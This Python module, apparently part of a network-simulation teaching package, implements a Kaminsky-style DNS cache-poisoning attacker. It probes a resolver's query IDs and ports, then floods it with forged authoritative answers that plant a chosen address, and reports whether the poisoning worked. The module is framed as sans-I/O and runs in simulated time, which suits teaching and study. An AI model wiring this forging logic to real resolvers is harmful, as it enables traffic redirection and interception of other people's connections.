"""A cache-poisoning attack on a resolver (Kaminsky, 2008; RFC 5452 §4), sans-I/O — a
teaching tool that runs in simulated time only.

An attacker off the path between a resolver and a name server cannot see the
resolver's queries; to make it take a forged answer it must guess what a real answer
would match: the question (it chooses that itself, by asking the resolver), the
server's address (it forges the source), and the query's ID and source port. So:

1. *Probe.* It asks the resolver for two names in a zone of its own; the resolver
   asks the attacker's name server, which sees each query's ID and source port. Two
   queries from one port with IDs one apart say the resolver counts (the 1990s
   resolvers); anything else says it draws them at random (RFC 5452 §9.1).
2. *Trigger and flood.* It asks the resolver for the name to poison and at once sends
   it forged answers "from" that name's server, one every ``1/rate`` seconds, until
   ``guesses`` are out or the resolver has answered: each forged answer carries the
   planted address and a guess — against a counting resolver the next IDs from the one
   port it saw, against a random one IDs and ports drawn at random.
3. *Verdict.* The resolver's answer to the trigger says whether a guess won the race
   against the real answer: the planted address (poisoned) or the real one.

Inputs: :meth:`start`, :meth:`observed` (a query the attacker's own server received),
:meth:`answered` (a response to one of its own queries), :meth:`handle_timer`. Outputs:
:class:`Query` (to the resolver), :class:`Forge` (a forged answer, from the spoofed
server's port 53 to a guessed port), :class:`Say` (what it tells its user).
"""

from __future__ import annotations

import random
from dataclasses import dataclass

import dns.exception
import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import dns.rrset

from netsim.proto.dns.resolver import ID_COUNT, PORT_COUNT, PORTS

#: How many IDs ahead of the last one seen a forger tries against a counting resolver.
WINDOW = 8


@dataclass(frozen=True, slots=True)
class Query:
    wire: bytes


@dataclass(frozen=True, slots=True)
class Forge:
    wire: bytes
    port: int


@dataclass(frozen=True, slots=True)
class Say:
    text: str


class Forger:
    def __init__(self, *, target: str, address: str, spoof: str, probes: list[str],
                 guesses: int = 500, rate: float = 5000.0, ttl: int = 86400,
                 rng: random.Random) -> None:
        self.target = dns.name.from_text(target)
        self.address, self.spoof = address, spoof
        self.probes = [dns.name.from_text(p) for p in probes]
        self.guesses, self.gap, self.ttl = guesses, 1.0 / rate, ttl
        self.rng = rng
        self.seen: list[tuple[int, int]] = []      # (ID, port) of each probe's query
        self.counting: bool | None = None          # what the probes showed
        self.sent = 0                              # forged answers sent
        self.poisoned: bool | None = None          # the verdict, once the resolver answered
        self.answer: str | None = None
        self._asking: dns.message.Message | None = None
        self._stage = "idle"
        self._probed = 0                            # probes answered
        self._next: float | None = None
        self._flood_start = 0.0
        self._out: list = []

    # -- inputs --------------------------------------------------------------------------

    def start(self, now: float) -> None:
        if self.probes:
            self._stage = "probe"
            self._ask(self.probes[0])
        else:
            self._trigger(now)

    def observed(self, qid: int, port: int, name: dns.name.Name) -> None:
        """The attacker's own server got a query for ``name`` from the resolver."""
        if self._stage == "probe" and name in self.probes and len(self.seen) < len(self.probes):
            self.seen.append((qid, port))
            self._out.append(Say(f"{name.to_text()}: the resolver asked our server from port "
                                 f"{port} with ID {qid}"))

    def answered(self, wire: bytes, now: float) -> None:
        try:
            response = dns.message.from_wire(wire)
        except dns.exception.DNSException:
            return
        if self._asking is None or response.id != self._asking.id or \
                response.question != self._asking.question:
            return
        self._asking = None
        if self._stage == "probe":
            self._probed += 1
            if self._probed < len(self.probes):
                self._ask(self.probes[self._probed])
                return
            self._judge()
            self._trigger(now)
        elif self._stage == "flood":
            self._verdict(response, now)

    def handle_timer(self, now: float) -> None:
        while self._next is not None and now >= self._next:
            self._forge()
            self.sent += 1
            self._next = self._next + self.gap if self.sent < self.guesses else None

    # -- sans-I/O contract -------------------------------------------------------------------

    def outputs(self) -> list:
        out, self._out = self._out, []
        return out

    def get_timer(self) -> float | None:
        return self._next

    # -- the attack ------------------------------------------------------------------------------

    @property
    def space(self) -> int:
        """The (ID, port) pairs one forged answer must hit: 1 if the resolver counts."""
        return 1 if self.counting else ID_COUNT * PORT_COUNT

    def _ask(self, name: dns.name.Name) -> None:
        query = dns.message.make_query(name, dns.rdatatype.A)
        query.flags |= dns.flags.RD
        query.id = self.rng.randrange(ID_COUNT)
        self._asking = query
        self._out.append(Query(query.to_wire()))

    def _judge(self) -> None:
        """Two queries from one port, IDs a little apart: a counting resolver."""
        if len(self.seen) >= 2:
            (id1, port1), (id2, port2) = self.seen[-2:]
            self.counting = port1 == port2 and 0 < (id2 - id1) % ID_COUNT <= WINDOW
        else:
            self.counting = False
        if self.counting:
            self._out.append(Say(f"the resolver counts its IDs up from one port: its next queries "
                                 f"will be IDs {(self.seen[-1][0] + 1) % ID_COUNT}… from port "
                                 f"{self.seen[-1][1]}"))
        else:
            self._out.append(Say(f"the resolver draws IDs and ports at random: each forged answer "
                                 f"has one chance in {ID_COUNT:,} IDs × {PORT_COUNT:,} ports "
                                 f"= {self.space:,}"))

    def _trigger(self, now: float) -> None:
        self._stage = "flood"
        self._ask(self.target)
        guess = f"IDs {self._ids()} to port {self.seen[-1][1]}" if self.counting else \
            "IDs and ports at random"
        self._out.append(Say(f"asking the resolver for {self.target.to_text()} and racing "
                             f"{self.spoof}'s answer with forged ones: {self.target.to_text()} A "
                             f"{self.address}, {guess}"))
        self._flood_start = now
        self._next = now

    def _ids(self) -> str:
        first = (self.seen[-1][0] + 1) % ID_COUNT
        return f"{first}–{(first + WINDOW - 1) % ID_COUNT}"

    def _forge(self) -> None:
        if self.counting:
            qid = (self.seen[-1][0] + 1 + self.sent % WINDOW) % ID_COUNT
            port = self.seen[-1][1]
        else:
            qid, port = self.rng.randrange(ID_COUNT), self.rng.randint(*PORTS)
        fake = dns.message.make_query(self.target, dns.rdatatype.A)
        fake.id = qid
        fake.flags &= ~dns.flags.RD
        response = dns.message.make_response(fake)
        response.flags |= dns.flags.AA
        response.answer.append(dns.rrset.from_text(self.target, self.ttl, "IN", "A", self.address))
        self._out.append(Forge(response.to_wire(), port))

    def _verdict(self, response: dns.message.Message, now: float) -> None:
        self._next = None                           # the race is over either way
        found = [rd.address for rrset in response.answer if rrset.rdtype == dns.rdatatype.A
                 for rd in rrset]
        self.answer = found[-1] if found else None
        self.poisoned = self.answer == self.address
        took = f"{self.sent:,} forged answers in {round((now - self._flood_start) * 1000, 1)} ms"
        said = f"{self.target.to_text()} A {self.answer}" if self.answer else "no address"
        if self.poisoned:
            self._out.append(Say(f"sent {took}; the resolver answered {said}: POISONED — its "
                                 f"clients go to {self.address} for {self.ttl} s"))
        else:
            self._out.append(Say(f"sent {took}; the resolver answered {said}: not poisoned "
                                 f"({self.sent:,} guesses against {self.space:,} possibilities)"))
